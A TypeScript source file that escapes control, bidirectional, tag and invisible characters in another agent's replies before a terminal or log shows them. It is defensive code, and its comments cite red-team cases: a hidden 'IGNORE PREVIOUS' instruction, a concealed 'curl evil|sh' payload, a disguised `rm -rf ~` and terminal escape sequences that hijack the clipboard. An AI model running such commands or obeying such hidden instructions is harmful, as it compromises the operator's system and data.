/** Another agent's text as a terminal shows it. */

/**
 * C0 and C1 control characters and DEL, but for the newline and the tab; the bidirectional embeddings, overrides
 * and isolates, which reorder what follows them on screen ("Trojan Source", CVE-2021-42574): a reply's `rm -rf ~`
 * could show as something else; and the tag characters (U+E0000-E007F), which a terminal shows as nothing while an
 * agent reads them as text (red team 61: "hello" on screen carried "IGNORE PREVIOUS" to the agent). The marks (LRM,
 * RLM, ALM) stay: right-to-left text uses them, and they reorder nothing by themselves.
 */
const CONTROLS = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069\u{e0000}-\u{e007f}]/gu;

/**
 * Characters a terminal shows as nothing, which an agent still reads: a sender can hide a payload in them under
 * harmless text (red team 62: "Sure … ok" on screen, `curl evil|sh` for the agent, one byte per variation selector).
 * Always: the zero-width space, word joiner and invisible operators, BOM, soft hyphen, CGJ, the Khmer and Mongolian
 * invisibles, the Hangul fillers, the line and paragraph separators. In context: a variation selector is kept only
 * right after a character it can vary (VS15/16 after an emoji or a keycap's digit, VS1-14 after a math symbol, a
 * CJK ideograph or the scripts that define sequences with them, VS17-256 after an ideograph), so never two in a row;
 * ZWJ and ZWNJ only between letters, marks or pictographs (emoji sequences, Indic conjuncts, Persian), so never two
 * in a row either. What is left carries a bit or two per visible character at most.
 */
const INVISIBLE = new RegExp(
  [
    String.raw`[\u00ad\u034f\u115f\u1160\u17b4\u17b5\u180e\u200b\u2028\u2029\u2060-\u2064\u3164\ufeff\uffa0]`,
    String.raw`(?<![\p{Sm}\p{Ideographic}\p{sc=Myanmar}\p{sc=Phags_Pa}\p{sc=Manichaean}])[\ufe00-\ufe0d]`,
    String.raw`(?<!\p{Emoji})[\ufe0e\ufe0f]`,
    String.raw`(?<!\p{Ideographic})[\u{e0100}-\u{e01ef}]`,
    String.raw`(?<![\p{L}\p{M}\p{Extended_Pictographic}\p{Emoji_Modifier}\ufe0f])[\u200c\u200d]`,
    String.raw`[\u200c\u200d](?![\p{L}\p{M}\p{Extended_Pictographic}])`,
  ].join("|"),
  "gu",
);

/**
 * `text` with its control characters written out (`\u001b`), for a terminal: a reply is another agent's, and an
 * escape sequence in it would otherwise drive the operator's terminal (set its title, write its clipboard with OSC 52,
 * hide or overwrite what is shown; red team, session 52), and the characters it would show as nothing (`INVISIBLE`).
 * Newlines and tabs stay. Written as JSON writes them, so that
 * a JSON log line keeps parsing (JSON.stringify leaves DEL and the C1 controls as they are).
 */
export function visibleControls(text: string): string {
  return text.replace(CONTROLS, writtenOut).replace(INVISIBLE, writtenOut);
}

/** What ends a line for some reader: the newline, CR, VT, FF, the separators U+001C-001E, NEL, U+2028 and U+2029 (Python's `splitlines`). */
const LINE_BREAKS = /[\n\r\u000b\u000c\u001c-\u001e\u0085\u2028\u2029]/g;

/**
 * `text` as one line, its line breaks written out: an error message, on a terminal (which then writes out the other
 * controls) or in a log a script reads line by line (which gets them as sent). It may quote the broker's refusal,
 * which may quote another agent's text (red team 61: a dead letter's reason, quoted by the 410 that `interop ask`
 * printed, put a forged answer on a line of its own).
 */
export function oneLine(text: string): string {
  return text.replace(LINE_BREAKS, writtenOut);
}

/** A character as JSON escapes it: each UTF-16 unit (a tag character is two). */
function writtenOut(control: string): string {
  let written = "";
  for (let unit = 0; unit < control.length; unit++) written += `\\u${control.charCodeAt(unit).toString(16).padStart(4, "0")}`;
  return written;
}
